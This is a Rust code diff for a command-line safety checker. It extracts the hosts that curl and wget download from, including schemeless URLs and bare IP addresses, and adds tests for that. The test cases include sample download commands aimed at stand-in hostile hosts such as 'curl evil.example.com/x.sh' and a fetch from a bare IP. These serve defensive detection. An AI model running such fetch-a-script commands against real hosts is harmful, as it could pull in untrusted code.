@@ -129,10 +129,78 @@ const DOWNLOADERS: &[&str] = &[
 pub(super) fn unknown_download_host(cmds: &[SimpleCommand]) -> Option<String> {
     cmds.iter()
         .filter(|c| DOWNLOADERS.contains(&c.name()))
-        .flat_map(|c| c.argv.iter().skip(1))
-        .filter(|w| !w.starts_with('-') && w.contains("://"))
-        .filter_map(|w| host_of(w))
+        .flat_map(|c| download_sources(&c.argv))
         .find(|h| !known(h))
+}
+
+/// Short options of the download clients that take a value (`-o FILE`, `-H HEADER`), also
+/// last in a cluster (`-fsSLo FILE`): the word after them is no URL.
+const VALUE_SHORT: &str = "oHdXuAeTFKwmxbcrCEPUaiQtY";
+
+/// Long options of the download clients that take their value as the next word.
+const VALUE_LONG: &[&str] = &[
+    "--output", "--header", "--data", "--data-binary", "--data-raw", "--data-urlencode",
+    "--request", "--user", "--user-agent", "--referer", "--upload-file", "--form", "--config",
+    "--write-out", "--max-time", "--proxy", "--cookie", "--cookie-jar", "--range",
+    "--continue-at", "--cert", "--key", "--cacert", "--resolve", "--connect-to",
+    "--connect-timeout", "--retry", "--output-document", "--output-file", "--directory-prefix",
+    "--post-data", "--post-file", "--body-data", "--body-file", "--method", "--input-file",
+    "--tries", "--timeout", "--wait", "--limit-rate", "--dns-servers", "--interface",
+];
+
+/// The hosts the URL operands of a download client fetch from: URLs with a scheme, and bare
+/// addresses the client reads as `http://` (`curl evil.example.com/x.sh`, `wget 203.0.113.5/i`):
+/// an IPv4 address, or a name of three labels or more, or a name followed by a path. Option
+/// values (`-o install.sh`) and local paths are none.
+fn download_sources(argv: &[String]) -> Vec<String> {
+    let mut hosts = Vec::new();
+    let mut skip = false;
+    let mut options_end = false;
+    for w in argv.iter().skip(1) {
+        if skip {
+            skip = false;
+            continue;
+        }
+        if !options_end && w == "--" {
+            options_end = true;
+            continue;
+        }
+        if !options_end && w.starts_with("--") {
+            skip = !w.contains('=') && VALUE_LONG.contains(&w.as_str());
+            continue;
+        }
+        if !options_end && w.starts_with('-') && w.len() > 1 {
+            skip = w.chars().last().is_some_and(|c| VALUE_SHORT.contains(c));
+            continue;
+        }
+        if w.contains("://") {
+            hosts.extend(host_of(w));
+        } else if let Some(h) = bare_host(w) {
+            hosts.push(h);
+        }
+    }
+    hosts
+}
+
+/// The host of a URL written without a scheme, when the word can be nothing else.
+fn bare_host(word: &str) -> Option<String> {
+    if word.starts_with(['.', '/', '~', '$', '@', '-']) || word.contains(['=', ' ']) {
+        return None;
+    }
+    let host = host_of(word)?;
+    if host.parse::<std::net::Ipv4Addr>().is_ok() {
+        return Some(host);
+    }
+    let labels: Vec<&str> = host.split('.').collect();
+    let tld = labels.last()?;
+    let named = labels.len() >= 2
+        && labels.iter().all(|l| {
+            !l.is_empty() && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
+        })
+        && tld.len() >= 2
+        && tld.chars().all(|c| c.is_ascii_alphabetic());
+    let with_path = word.contains(['/', ':']);
+    (named && (labels.len() >= 3 || with_path)).then_some(host)
 }
 
 #[cfg(test)]
@@ -194,6 +262,34 @@ mod tests {
             ("go install ./cmd/tool", None),
         ] {
             assert_eq!(first(line).as_deref(), host, "{line}");
+        }
+    }
+
+    #[test]
+    fn download_hosts_with_and_without_a_scheme() {
+        let hosts = |line: &str| {
+            let parsed = crate::parse::parse(line);
+            parsed
+                .commands
+                .iter()
+                .filter(|c| DOWNLOADERS.contains(&c.name()))
+                .flat_map(|c| download_sources(&c.argv))
+                .collect::<Vec<_>>()
+        };
+        for (line, want) in [
+            ("curl -fsSL https://dl.example.net/i.sh", vec!["dl.example.net"]),
+            ("curl evil.example.com/x.sh", vec!["evil.example.com"]),
+            ("curl e.example.com", vec!["e.example.com"]),
+            ("wget -qO- 203.0.113.5/x", vec!["203.0.113.5"]),
+            ("curl -s example.com:8080/i", vec!["example.com"]),
+            // Option values, local paths and plain names are no hosts.
+            ("curl -o install.sh https://sh.rustup.rs", vec!["sh.rustup.rs"]),
+            ("curl -fsSLo out.tar.gz https://x.example.org/a", vec!["x.example.org"]),
+            ("curl -H 'Host: a.b.example' --output f.txt ./x", vec![]),
+            ("curl example.com", vec![]),
+            ("wget -O setup.py.bak ~/x.y.z", vec![]),
+        ] {
+            assert_eq!(hosts(line), want, "{line}");
         }
     }
 }
